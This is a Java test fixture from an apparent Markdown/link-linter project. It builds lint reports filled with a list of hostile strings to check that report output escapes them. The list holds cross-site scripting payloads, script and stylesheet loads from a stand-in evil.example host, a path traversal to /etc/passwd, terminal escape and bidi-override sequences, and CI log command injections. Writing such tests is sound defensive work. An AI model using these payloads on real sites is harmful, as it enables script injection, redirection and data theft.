package io.github.glosslint.report;

import io.github.glosslint.baseline.BaselineEntry;
import io.github.glosslint.finding.Finding;
import io.github.glosslint.finding.Region;
import io.github.glosslint.finding.Related;
import io.github.glosslint.finding.RuleId;
import io.github.glosslint.finding.Severity;
import io.github.glosslint.ledger.Kind;
import io.github.glosslint.ledger.Ledger;
import io.github.glosslint.ledger.Outcome;
import io.github.glosslint.ledger.UnknownPlace;
import io.github.glosslint.verdict.Cause;
import io.github.glosslint.verdict.HostSummary;
import io.github.glosslint.verdict.UrlReports;
import io.github.glosslint.verdict.Verdict;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;

/** Reports that have a string everywhere where a document, a name or the web can put one. */
public final class HostileReports {

  /** What ends a text, begins an element, a comment, a reference or a script, and what bends it. */
  public static final List<String> STRINGS =
      List.of(
          "",
          " ",
          "<",
          ">",
          "&",
          "\"",
          "'",
          "`",
          "<b>bold</b>",
          "</p></li></ol></section>",
          "</pre><h1>new head</h1>",
          "</mark>",
          "</code>",
          "</a><a href=javascript:alert(1)>x</a>",
          "<script>alert(1)</script>",
          "</script><script>alert(1)</script>",
          "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "</style><style>*{display:none}</style>",
          "</title><script>alert(1)</script>",
          "</textarea><script>alert(1)</script>",
          "</select></option><script>alert(1)</script>",
          "</noscript><script>alert(1)</script>",
          "</template><script>alert(1)</script>",
          "<img src=x onerror=alert(1)>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><style><img src=x onerror=alert(1)></style>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<iframe srcdoc=\"<script>alert(1)</script>\">",
          "<object data=data:text/html,x>",
          "<embed src=//evil.example/x.swf>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content=0;url=//evil.example/>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<form action=//evil.example/><button>x</button></form>",
          "<input autofocus onfocus=alert(1)>",
          "<details open ontoggle=alert(1)>",
          "<body onload=alert(1)>",
          "<!-- comment",
          "-->",
          "--!><script>alert(1)</script>",
          "<!--><script>alert(1)</script>",
          "<![CDATA[ x ]]>",
          "<?php echo 1 ?>",
          "<!DOCTYPE html>",
          "\" onmouseover=\"alert(1)",
          "' onmouseover='alert(1)",
          "` onmouseover=`alert(1)",
          "\" style=\"display:none",
          "x\" autofocus onfocus=alert(1) y=\"",
          "\"><script>alert(1)</script>",
          "'><script>alert(1)</script>",
          "javascript:alert(1)",
          "JaVaScRiPt:alert(1)",
          "java\tscript:alert(1)",
          "\u0001javascript:alert(1)",
          "data:text/html,<script>alert(1)</script>",
          "vbscript:msgbox(1)",
          "//evil.example/",
          "http://evil.example/\"onclick=alert(1)//",
          "https://user:password@evil.example/<x>",
          "https://evil.example\\@good.example/",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "&quot; &apos; &amp; &nbsp; &notin &copy",
          "&#x0;&#0;&#x110000;",
          "\u0000<script>alert(1)</script>",
          "<\u0000script>alert(1)</script>",
          "\u001b[31mred\u001b[0m \u009b1m",
          "\u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007",
          "line\nfeed\r\nand\rreturn\u0085\u2028\u2029",
          "\n::error::x",
          "##[error]x ##",
          "\u202egnp.exe \u2066x\u2069 \u200f",
          "\uFEFFmark \uFFFE \uFDD0",
          "\uD83D lone \uDE00",
          "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
          "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
          "\u00BCscript\u00BEalert(1)",
          "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{1}",
          "#severity=&rule=&q=<x>",
          "%3Cscript%3Ealert(1)%3C/script%3E",
          "../../../etc/passwd",
          "a/../../b",
          "Ĺ̎̅Z̑ͫ̓ͪ̂A̴̵̜̰͔ͫ͗͢",
          "👩‍👧 日本語 e\u0301 ﷽",
          "x".repeat(5000));

  private HostileReports() {}

  /** A report with a string in each of its fields; those of a URL stay URLs of the same host. */
  public static Report of(String text) {
    Region region = new Region(2, 20, 2, 30);
    List<Finding> findings =
        List.of(
            new Finding(
                new RuleId("rule/" + text),
                Severity.ERROR,
                text,
                region,
                text,
                List.of(text, text),
                List.of(new Related(text, region, text), new Related("b/" + text, region, text)),
                "before " + text + "<" + text + "> after",
                20),
            marking("https://host.example/" + text),
            marking("https://" + text + "/"));
    TreeMap<String, Verdict> verdicts = new TreeMap<>();
    verdicts.put("https://a.example/" + text, Verdict.of(Cause.NOT_FOUND, text));
    verdicts.put(
        text, new Verdict(Cause.PERMANENT_REDIRECT, text, 301, text, Set.of(text), true, 1, true));
    return new Report(
        findings,
        List.of(new Failure("x" + text, text, new IllegalStateException(text))),
        new Summary(
            1,
            Ledger.builder()
                .add(Kind.LINK, Outcome.UNKNOWN, "why " + text, 1)
                .add(new UnknownPlace(text, region, Kind.LINK, text, text))
                .build(),
            List.of(text),
            new KnownFindings(
                text, 1, List.of(new BaselineEntry(new RuleId("a/b"), text, text, 1)), text),
            new OldFindings(text, 1),
            new Documents(
                1,
                new TreeMap<>(Map.of(text, text)),
                new TreeMap<>(Map.of(text, text)),
                new TreeSet<>(Set.of(text)),
                List.of(new NotChecked(text, 2, NotChecked.Fate.LEFT_OUT, text)))),
        UrlReports.of(verdicts, List.of(new HostSummary(text, 1, 1, 1, 1, 1)), 0, text));
  }

  private static Finding marking(String url) {
    Region region = new Region(3, 1, 3, 1 + url.codePointCount(0, url.length()));
    RuleId rule = new RuleId("url/dead");
    return new Finding(rule, Severity.INFO, "z.md", region, "m", List.of(), List.of(), url, 1);
  }
}
